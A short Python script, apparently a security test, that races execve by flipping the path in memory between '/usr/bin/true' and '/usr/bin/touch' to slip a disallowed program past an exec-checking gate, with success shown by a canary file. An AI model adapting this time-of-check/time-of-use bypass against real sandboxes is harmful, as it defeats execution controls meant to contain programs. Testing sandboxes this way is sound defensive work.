"""Rewrites execve's path in memory between the exec gate's read and the kernel's copy.

Each try forks a child whose second thread keeps flipping a buffer between "/usr/bin/true" and
"/usr/bin/touch" while its first thread calls execve(buffer, ["x", <canary>]). If the gate
reads "true" and the kernel then copies "touch", the canary appears.
Usage: python3 race_memory.py <dir> <canary-name> <seconds>
"""
import ctypes
import os
import sys
import threading
import time

os.chdir(sys.argv[1])
canary, seconds = sys.argv[2], float(sys.argv[3])
libc = ctypes.CDLL(None, use_errno=True)
TRUE = b"/usr/bin/true\0\0"
TOUCH = b"/usr/bin/touch\0"
end = time.time() + seconds
tries = 0
while time.time() < end and not os.path.exists(canary):
    tries += 1
    pid = os.fork()
    if pid == 0:
        buf = ctypes.create_string_buffer(TRUE, 16)
        argv = (ctypes.c_char_p * 3)(b"x", canary.encode(), None)
        envp = (ctypes.c_char_p * 1)(None)

        def flip():
            i = 0
            while True:
                ctypes.memmove(buf, TOUCH if i % 2 else TRUE, 15)
                i += 1

        threading.Thread(target=flip, daemon=True).start()
        time.sleep(0.001)
        libc.execve(buf, argv, envp)
        os._exit(1)
    os.waitpid(pid, 0)
print(f"tries={tries} canary={os.path.exists(canary)}")
